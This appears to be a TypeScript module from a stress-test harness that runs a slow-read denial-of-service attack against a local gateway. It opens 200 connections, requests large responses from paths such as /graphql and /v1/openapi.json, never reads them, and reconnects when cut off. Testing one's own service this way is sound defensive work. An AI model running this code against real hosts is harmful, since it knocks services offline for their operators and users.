import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Target } from '../attack.ts'

const READERS = 200
const AGAIN_MS = 1000
/** Large answers that need no key, uncompressed. */
const PATHS = ['/graphql', '/graphql', '/graphql', '/v1/openapi.json', '/v1/docs', '/']

/** Clients that request a large answer and do not read it. A disconnected one reconnects. */
export async function slowReaders(target: Target): Promise<void> {
  const { signal } = target
  const read = async (index: number) => {
    while (!signal.aborted) {
      await readNothing(target, PATHS[index % PATHS.length] ?? '/')
      await pause(AGAIN_MS, undefined, { signal }).catch(() => {})
    }
  }
  await Promise.all(Array.from({ length: READERS }, (_, index) => read(index)))
}

function readNothing({ port, signal, count }: Target, path: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.write(`GET ${path} HTTP/1.1\r\nHost: gateway\r\nAccept: text/html\r\n\r\n`)
      count('asked')
    })
    const leave = () => socket.destroy()
    signal.addEventListener('abort', leave, { once: true })
    socket.pause().on('error', () => {})
    socket.once('close', () => {
      signal.removeEventListener('abort', leave)
      if (!signal.aborted) count('cut off')
      resolve()
    })
  })
}
